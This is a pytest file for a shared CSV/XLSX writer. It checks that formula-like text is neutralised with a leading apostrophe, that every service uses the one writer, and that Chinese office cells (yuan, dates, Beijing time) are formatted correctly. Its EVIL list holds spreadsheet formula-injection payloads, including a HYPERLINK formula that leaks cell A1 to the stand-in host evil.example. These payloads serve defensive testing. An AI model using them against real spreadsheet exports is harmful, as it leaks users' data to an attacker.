"""The one CSV/XLSX writer: text a spreadsheet program would run as a formula is written so
that it shows as typed; numbers stay numbers."""

from __future__ import annotations

import csv
import datetime as dt
import io
import pathlib

import pytest
from openpyxl import load_workbook

from shared.xlsx import csv_bytes, xlsx_bytes

EVIL = ['=HYPERLINK("http://evil.example/?d="&A1,"点我")', "+1+1", "-2+3", "@SUM(A1)"]
CONTROL = ["\t=1+1", "\r=1+1"]


def test_formula_text_is_neutralised_in_csv_and_xlsx() -> None:
    row = [*EVIL, *CONTROL, "-4.0", "12", 7, "普通文本"]
    lines = list(
        csv.reader(io.StringIO(csv_bytes(["a"] * len(row), [row]).decode("utf-8-sig"), newline=""))
    )
    assert lines[1] == [
        *("'" + v for v in EVIL + CONTROL),
        "-4.0",
        "12",
        "7",
        "普通文本",
    ]
    book = load_workbook(io.BytesIO(xlsx_bytes([("s", ["=head"], [row])])))
    header, written = book["s"].iter_rows(values_only=True)
    assert header[0] == "'=head"
    # XML reads a CR back as LF; the apostrophe before it is what matters.
    written = [v.replace("\n", "\r") if isinstance(v, str) else v for v in written]
    assert written == [*("'" + v for v in EVIL + CONTROL), "-4.0", "12", 7, "普通文本"]
    assert all(cell.data_type != "f" for cell in book["s"][2])


@pytest.mark.parametrize("part", ["services", "gateway"])
def test_every_spreadsheet_is_written_by_the_shared_writer(part: str) -> None:
    """One writer: no service builds a workbook or a CSV writer of its own."""
    root = pathlib.Path(__file__).parents[2] / part
    own = [
        str(path)
        for path in root.rglob("*.py")
        if "Workbook(" in (text := path.read_text()) or "csv.writer(" in text
    ]
    assert own == []


def test_office_cells_money_in_yuan_dates_hours_and_a_bold_header() -> None:
    from decimal import Decimal

    from shared.xlsx import Yuan, yes_no

    at = dt.datetime(2027, 3, 1, 2, 30, tzinfo=dt.UTC)  # 10:30 in Beijing
    rows = [["王芳", Yuan(123_456), dt.date(2019, 9, 1), Decimal("12.5"), at, yes_no(True)]]
    header = ["姓名", "金额（元）", "入职日期", "学时", "时间", "是否达标"]
    book = load_workbook(io.BytesIO(xlsx_bytes([("表", header, rows)])))
    sheet = book["表"]
    values = [c.value for c in sheet[2]]
    assert values[:2] == ["王芳", 1234.56] and isinstance(values[1], float)
    assert values[2] == dt.datetime(2019, 9, 1) and sheet["C2"].number_format == "yyyy-mm-dd"
    assert values[3] == 12.5 and sheet["D2"].number_format == "0.0"
    assert values[4] == dt.datetime(2027, 3, 1, 10, 30) and values[5] == "是"
    assert sheet["B2"].number_format == "#,##0.00"
    assert all(c.font.bold for c in sheet[1]) and sheet.freeze_panes == "A2"
    # A Chinese header is about twice as wide as its characters.
    assert sheet.column_dimensions["B"].width >= 10

    as_csv = csv_bytes(header, rows)
    assert as_csv.startswith("\ufeff".encode())
    line = as_csv.decode("utf-8-sig").splitlines()[1]
    assert line == "王芳,1234.56,2019-09-01,12.5,2027-03-01 10:30,是"
    assert csv_bytes(header, rows, encoding="gbk").decode("gbk").splitlines()[1] == line
